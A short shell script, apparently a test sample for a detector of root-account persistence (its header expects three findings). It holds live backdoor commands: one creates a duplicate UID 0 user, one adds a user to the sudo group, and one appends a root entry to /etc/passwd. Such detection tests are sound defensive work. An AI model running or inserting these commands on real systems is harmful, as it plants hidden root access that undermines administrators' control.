#!/bin/sh
# A second root.
# expects: persistence_root_account 3

useradd -o -u 0 -s /bin/sh invented
usermod -aG sudo app
sh -c 'echo "invented:x:0:0::/root:/bin/sh" >> /etc/passwd'
